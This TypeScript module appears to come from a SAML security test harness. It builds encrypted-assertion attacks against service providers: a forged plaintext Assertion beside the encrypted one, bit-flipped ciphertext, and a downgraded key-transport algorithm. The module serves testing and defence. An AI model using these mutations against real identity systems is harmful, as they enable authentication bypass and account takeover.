/**
 * @module Encrypted-assertion mutations (docs/attacks.md §G) that work on what the mock IdP emits: a
 * plaintext forged Assertion beside the EncryptedAssertion (ENC-03), and tampered ciphertext or key
 * transport (ENC-06/07). The engine encrypts between the two DOM stages, so the forged plaintext is
 * prepared before signing in a holder element the encryption step does not touch, then moved out.
 */
import type { Document, Element } from '@xmldom/xmldom';
import type { DomMutation, MutationContext } from '../types.js';
import { childrenOf, insertAfter, one, remove, rootOf } from './dom.js';
import { copyOf } from './copy-node.js';
import { EVIL_ASSERTION_ID, forgedId, swapIn } from './xsw.js';

const HOLDER_NS = 'urn:samlspec:holder';
export const RSA_1_5 = 'http://www.w3.org/2001/04/xmlenc#rsa-1_5';

function dom(
  name: string,
  stage: DomMutation['stage'],
  apply: (doc: Document, ctx: MutationContext) => void,
): DomMutation {
  return { name, stage, apply };
}

/**
 * ENC-03 (CVE-2024-4985 class): a plaintext, unsigned copy of the Assertion for the victim
 * (`_evil_assertion_ID`) placed before or after the EncryptedAssertion. Two mutations, one per stage.
 */
export function plaintextBesideEncrypted(position: 'before' | 'after'): readonly DomMutation[] {
  return [
    dom('prepare a forged plaintext Assertion (held aside from encryption)', 'before-sign', (doc, ctx) => {
      const forged = copyOf(one(doc, 'Assertion'));
      swapIn(forged, ctx);
      forged.setAttribute('ID', forgedId(EVIL_ASSERTION_ID, ctx));
      const holder = doc.createElementNS(HOLDER_NS, 'holder');
      holder.appendChild(forged);
      rootOf(doc).appendChild(holder);
    }),
    dom(`forged plaintext Assertion ${position} the EncryptedAssertion`, 'after-sign', (doc) => {
      const holder = childrenOf(rootOf(doc)).find((c) => c.namespaceURI === HOLDER_NS);
      const forged = holder && childrenOf(holder)[0];
      if (!holder || !forged) throw new Error('the forged Assertion prepared before signing is missing');
      const encrypted = one(doc, 'EncryptedAssertion');
      if (position === 'before') encrypted.parentNode!.insertBefore(forged, encrypted);
      else insertAfter(forged, encrypted);
      remove(holder);
    }),
  ];
}

/** The CipherValue of the assertion's EncryptedData (`data`) or of its EncryptedKey (`key`). */
function cipherValue(doc: Document, which: 'data' | 'key'): Element {
  const encrypted = one(doc, 'EncryptedAssertion');
  const holder = which === 'key' ? one(encrypted, 'EncryptedKey') : one(encrypted, 'EncryptedData');
  const data = childrenOf(holder).find((c) => c.localName === 'CipherData');
  if (!data) throw new Error(`no CipherData in ${holder.localName}`);
  return one(data, 'CipherValue');
}

/**
 * ENC-06/07: flips one bit of the ciphertext — in the data, the last byte of the next-to-last block
 * (for CBC that lands in the last block's padding); in the key, its last byte.
 */
export function flipCiphertextBit(which: 'data' | 'key'): DomMutation {
  return dom(`flip a bit of the ${which} ciphertext`, 'after-sign', (doc) => {
    const value = cipherValue(doc, which);
    const bytes = Buffer.from(value.textContent ?? '', 'base64');
    if (bytes.length < 32) throw new Error(`the ${which} ciphertext is too short`);
    const index = which === 'data' ? bytes.length - 17 : bytes.length - 1;
    bytes[index] = bytes[index]! ^ 0x01;
    while (value.firstChild) value.removeChild(value.firstChild);
    value.appendChild(doc.createTextNode(bytes.toString('base64')));
  });
}

/** ENC-07: the EncryptedKey claims another key-transport algorithm (e.g. RSA PKCS#1 v1.5). */
export function keyTransportAlgorithm(uri: string): DomMutation {
  return dom(`EncryptedKey algorithm ${uri}`, 'after-sign', (doc) => {
    const key = one(one(doc, 'EncryptedAssertion'), 'EncryptedKey');
    const method = childrenOf(key).find((c) => c.localName === 'EncryptionMethod');
    if (!method) throw new Error('the EncryptedKey has no EncryptionMethod');
    method.setAttribute('Algorithm', uri);
  });
}
